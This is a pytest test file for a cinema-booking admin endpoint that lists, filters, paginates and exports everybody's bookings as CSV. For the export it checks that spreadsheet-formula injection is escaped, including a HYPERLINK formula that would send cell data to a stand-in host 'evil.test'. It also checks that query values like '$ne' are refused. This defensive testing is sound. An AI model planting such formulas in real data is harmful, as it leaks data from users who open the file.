"""GET /api/admin/bookings: everybody's bookings, narrowed, in pages, and as a spreadsheet."""

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest
import pytest_asyncio

from server import booking_lists
from server.api.spreadsheets import harmless, wants_csv
from server.models import new_id
from tests.programme import MOVIE
from tests.running import (
    HALL_CINEMA,
    IN_MODULE_LOOP,
    booked,
    eventually,
    pay,
    problem,
    served,
    sign_in,
    user_id,
)

pytestmark = IN_MODULE_LOOP

server = served()

BOOKINGS = "/api/admin/bookings"
CSV = {"Accept": "text/csv"}


async def listed(client, **query):
    """The ids of all pages, newest first."""
    found, cursor = [], {}
    while True:
        answer = await client.get(BOOKINGS, params=query | cursor)
        assert answer.status_code == 200, answer.text
        body = answer.json()
        found += [item["id"] for item in body["items"]]
        if body["next_cursor"] is None:
            return found
        cursor = {"cursor": body["next_cursor"]}


async def lines(client, **query):
    """The same as a spreadsheet: a dict for each line."""
    answer = await client.get(BOOKINGS, params=query, headers=CSV)
    assert answer.status_code == 200, answer.text
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


async def planned(server, *, cinema=None, movie="mov_a", starts_at=None):
    """A showtime of its own cinema, unless one is given."""
    cinema = cinema or replace(HALL_CINEMA, id=new_id("cin"))
    starts_in = starts_at - datetime.now(UTC) if starts_at else timedelta(days=1)
    return await server.showtime(starts_in, cinema=cinema, movie=replace(MOVIE, id=movie))


async def past(server, showtime):
    """Let a showtime be over."""
    at = datetime.now(UTC) - timedelta(days=40)
    await server.stored.database["showtimes"].update_one(
        {"_id": showtime}, {"$set": {"starts_at": at, "ends_at": at + timedelta(hours=2)}}
    )


@pytest_asyncio.fixture(loop_scope="module")
async def clerk(server):
    where = {"_id": await user_id(server.eve)}
    role = {"role": "BOX_OFFICE", "granted_role": "BOX_OFFICE"}
    await server.stored.database["users"].update_one(where, {"$set": role})
    await sign_in(server.eve, "eve@example.com")
    return server.eve


async def test_an_item_is_the_booking_with_its_showtime_and_whose_it_is(server, clerk):
    showtime = await planned(server)
    booking = await booked(server.bob, showtime, "A1", "B1")
    assert (await pay(server.bob, booking)).status_code == 200
    mine = (await server.bob.get(f"/api/bookings/{booking}")).json()["booking"]
    for client in (server.ada, clerk):
        items = (await client.get(BOOKINGS, params={"limit": 1})).json()["items"]
        told = {"id": await user_id(server.bob), "email": "bob@example.com", "name": "Bob"}
        told["name"] = (await server.bob.get("/api/me")).json()["user"]["name"]
        item = items[0]
        assert item.pop("user") == told
        for changing in ("expires_in_ms", "refundable_until"):
            item.pop(changing, None)
            mine.pop(changing, None)
        assert item == mine
        assert item["status"] == "confirmed"


async def test_everybodys_bookings_come_newest_first_in_pages(server):
    showtime = await planned(server)
    made = [
        await booked(client, showtime, seat)
        for client, seat in ((server.bob, "A1"), (server.ada, "A2"), (server.bob, "A3"))
    ]
    for limit in (1, 2, 200):
        assert (await listed(server.ada, limit=limit))[:3] == made[::-1]


async def test_bookings_of_one_moment_are_neither_repeated_nor_skipped(server):
    showtime = await planned(server)
    made = {await booked(server.bob, showtime, f"A{n}") for n in range(1, 9)}
    await server.stored.database["bookings"].update_many(
        {"showtime_id": showtime}, {"$set": {"created_at": datetime.now(UTC)}}
    )
    found = (await listed(server.ada, limit=3))[:8]
    assert found == sorted(made, reverse=True)


async def test_filters_alone_and_together(server):
    one, other = await planned(server), await planned(server, movie="mov_b")
    first = await booked(server.bob, one, "A1")
    second = await booked(server.ada, one, "A2")
    third = await booked(server.bob, other, "A1")
    await pay(server.bob, third)
    await server.bob.delete(f"/api/bookings/{first}")
    rows = server.stored.database["showtimes"]
    cinema = (await rows.find_one({"_id": one}))["cinema_id"]
    elsewhere = (await rows.find_one({"_id": other}))["cinema_id"]
    bob = await user_id(server.bob)
    expected = [
        ({"cinema": cinema}, [second, first]),
        ({"cinema": elsewhere}, [third]),
        ({"cinema": cinema, "status": "cancelled"}, [first]),
        ({"cinema": cinema, "user": bob}, [first]),
        ({"cinema": cinema, "user": "BOB@example.com"}, [first]),
        ({"cinema": cinema, "user": bob, "status": "pending"}, []),
        ({"cinema": elsewhere, "movie": "mov_b", "status": "confirmed"}, [third]),
        ({"cinema": cinema, "movie": "mov_b"}, []),
        ({"cinema": "cin_nowhere"}, []),
        ({"movie": "mov_nowhere"}, []),
        ({"user": "nobody@example.com"}, []),
        ({"user": "usr_nobody"}, []),
    ]
    for query, ids in expected:
        assert await listed(server.ada, **query) == ids, query
        assert [line["id"] for line in await lines(server.ada, **query)] == ids, query
    assert third in await listed(server.ada, movie="mov_b")
    assert {first, second} & set(await listed(server.ada, movie="mov_b")) == set()
    everything = set(await listed(server.ada))
    by_user = set(await listed(server.ada, user=bob))
    stored = server.stored.database["bookings"]
    assert by_user == {row["_id"] async for row in stored.find({"user_id": bob})}
    assert everything == {row["_id"] async for row in stored.find()}


async def test_bookings_of_showtimes_that_are_over_are_found_too(server):
    showtime = await planned(server)
    booking = await booked(server.bob, showtime, "A1")
    row = await server.stored.database["showtimes"].find_one({"_id": showtime})
    await past(server, showtime)
    assert await listed(server.ada, cinema=row["cinema_id"]) == [booking]


async def test_the_date_is_that_of_the_cinemas_clock(server):
    """Half past midnight in Auckland is noon of the day before in Greenwich."""
    there = replace(HALL_CINEMA, id=new_id("cin"), time_zone="Pacific/Auckland")
    here = replace(HALL_CINEMA, id=new_id("cin"), time_zone="Europe/Berlin")
    day = (datetime.now(UTC) + timedelta(days=10)).date()
    noon = datetime(day.year, day.month, day.day, 12, tzinfo=UTC)
    found = {}
    for cinema in (there, here):
        showtime = await planned(server, cinema=cinema, starts_at=noon)
        found[cinema.id] = await booked(server.bob, showtime, "A1")
    tomorrow = day + timedelta(days=1)
    assert await listed(server.ada, cinema=there.id, date=str(tomorrow)) == [found[there.id]]
    assert await listed(server.ada, cinema=there.id, date=str(day)) == []
    assert await listed(server.ada, cinema=here.id, date=str(day)) == [found[here.id]]
    assert await listed(server.ada, date=str(tomorrow)) == [found[there.id]]


async def test_what_a_booking_refers_to_may_be_gone(server):
    showtime = await planned(server)
    booking = await booked(server.bob, showtime, "A1")
    await server.stored.database["bookings"].update_one(
        {"_id": booking}, {"$set": {"showtime_id": "sho_gone", "user_id": "usr_gone"}}
    )
    item = (await server.ada.get(BOOKINGS, params={"user": "usr_gone"})).json()["items"][0]
    assert (item["showtime"], item["user"]) == (
        None,
        {"id": "usr_gone", "email": None, "name": None},
    )
    (line,) = await lines(server.ada, user="usr_gone")
    assert (line["id"], line["movie"], line["email"]) == (booking, "", "")
    await server.stored.database["bookings"].delete_one({"_id": booking})


@pytest.mark.parametrize(
    "bad",
    [
        *({"status": "x"}, {"date": "2026-13-01"}, {"date": "1"}, {"user": "a b"}, {"user": ""}),
        *({"movie": "{}"}, {"cinema": "$ne"}, {"limit": 0}, {"limit": 201}, {"cursor": "x"}),
        {"showtime": "sho_x"},
    ],
    ids=str,
)
async def test_bad_queries_are_refused_and_nothing_is_exported(server, bad):
    for headers in ({}, CSV):
        answer = await server.ada.get(BOOKINGS, params=bad, headers=headers)
        problem(answer, 422, "invalid_request")


# -- spreadsheets --------------------------------------------------------------------------------


async def test_a_spreadsheet_is_a_file_with_a_line_for_each_booking(server, clerk, monkeypatch):
    monkeypatch.setattr(booking_lists, "_BATCH", 3)
    showtime = await planned(server)
    row = await server.stored.database["showtimes"].find_one({"_id": showtime})
    query = {"cinema": row["cinema_id"]}
    made = []
    for count in (0, 1, 3, 7):  # none, less than a batch, a batch, more
        while len(made) < count:
            made.append(await booked(server.bob, showtime, f"A{len(made) + 1}"))
        found = await lines(clerk, **query, limit="1")
        assert [line["id"] for line in found] == made[::-1]
    answer = await clerk.get(BOOKINGS, params=query, headers=CSV)
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    disposition = answer.headers["content-disposition"]
    assert disposition == f'attachment; filename="bookings-{datetime.now(UTC):%Y-%m-%d}.csv"'
    assert answer.headers["cache-control"] == "no-store"
    assert "Accept" in answer.headers["vary"]
    assert answer.text.count("\r\n") == 8
    line = (await lines(clerk, **query))[0]
    assert (line["seats"], line["amount_minor"], line["currency"]) == ("A7", "1000", "EUR")
    assert (line["status"], line["email"]) == ("pending", "bob@example.com")
    assert line["user_id"] == await user_id(server.bob)


async def test_an_export_is_in_the_audit_log_and_names_nobodys_address(server, clerk):
    answer = await clerk.get(
        BOOKINGS, params={"user": "bob@example.com", "status": "pending"}, headers=CSV
    )
    logs = server.stored.database["audit_logs"]
    where = {"request_id": answer.headers["x-request-id"]}
    entry = await eventually(lambda: logs.find_one(where))
    assert entry["action"] == "admin.bookings_exported"
    assert entry["actor"]["id"] == await user_id(clerk)
    assert entry["detail"] == {"user": "by address", "status": "pending"}


async def test_a_name_that_is_a_formula_stays_a_name(server):
    bob = await user_id(server.bob)
    users, formula = server.stored.database["users"], '=HYPERLINK("http://evil.test?"&A1,"x")\n;+1'
    name = (await users.find_one_and_update({"_id": bob}, {"$set": {"name": formula}}))["name"]
    showtime = await planned(server)
    booking = await booked(server.bob, showtime, "A1")
    found = {line["id"]: line for line in await lines(server.ada, user=bob)}
    await users.update_one({"_id": bob}, {"$set": {"name": name}})
    assert found[booking]["name"] == '\'=HYPERLINK("http://evil.test?"&A1,"x") ;\'+1'


@pytest.mark.parametrize(
    ("cell", "told"),
    [
        *(("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)")),
        *(("\t=1", " '=1"), ("\r=1", " '=1"), ("\n=1", " '=1"), ("  =1", "  '=1")),
        *(("\uff1d1", "'\uff1d1"), ("x;=1", "x;'=1"), ("x, @y", "x, '@y"), ("|-1", "|'-1")),
        *(("ann@example.com", "ann@example.com"), ("A-1 = B+1", "A-1 = B+1"), ("", ""), (-5, -5)),
        *(("a\r\nb", "a b"), ("a\u2028b", "a b"), ("\x00=1", " '=1"), ('"=1', "\"'=1")),
        *(('a;"=A1', "a;\"'=A1"), ('a, ""=A1', 'a, ""\'=A1'), ('|" @A1', "|\" '@A1")),
        *(('say "=1"', 'say "=1"'), ('a;"b=1"', 'a;"b=1"')),
    ],
)
async def test_cells_are_harmless(cell, told):
    assert harmless(cell) == told


@pytest.mark.parametrize(
    ("accept", "wanted"),
    [
        *(("text/csv", True), ("TEXT/CSV; header=present", True), ("text/csv;q=0.5", True)),
        *(("application/json, text/csv", True), ("text/csv, application/json;q=0.9", True)),
        *(("", False), ("*/*", False), ("text/*", False), ("application/json", False)),
        *(("text/csv;q=0", False), ("text/csv;q=0.5, application/json", False)),
        *(("text/csv;q=x", False), ("text/csvx", False), ("text/csv;q=9", False)),
    ],
)
async def test_who_asks_for_a_spreadsheet_gets_one(accept, wanted):
    assert wants_csv(accept) is wanted


# -- indexes -------------------------------------------------------------------------------------


def stages(plan):
    """Every stage of a plan, from the top down."""
    found = [plan] if "stage" in plan else []
    for child in (plan.get("inputStage"), *plan.get("inputStages", [])):
        found += stages(child) if child else []
    return found


@pytest.mark.parametrize(
    "where",
    [
        {},
        {"status": "confirmed"},
        {"user_id": {"$in": ["usr_x"]}},
        {"showtime_id": {"$in": ["sho_x", "sho_y"]}},
    ],
    ids=str,
)
async def test_an_index_finds_and_orders_what_is_asked_for(server, where):
    command = {
        "find": "bookings",
        "filter": where,
        "sort": {"created_at": -1, "_id": -1},
        "limit": 51,
    }
    told = await server.stored.database.command("explain", command, verbosity="queryPlanner")
    plan = told["queryPlanner"]["winningPlan"]
    found = stages(plan.get("queryPlan", plan))
    scanned = {next(iter(stage["keyPattern"])) for stage in found if stage["stage"] == "IXSCAN"}
    assert scanned == {next(iter(where), "created_at")}
    assert not {stage["stage"] for stage in found} & {"SORT", "COLLSCAN"}
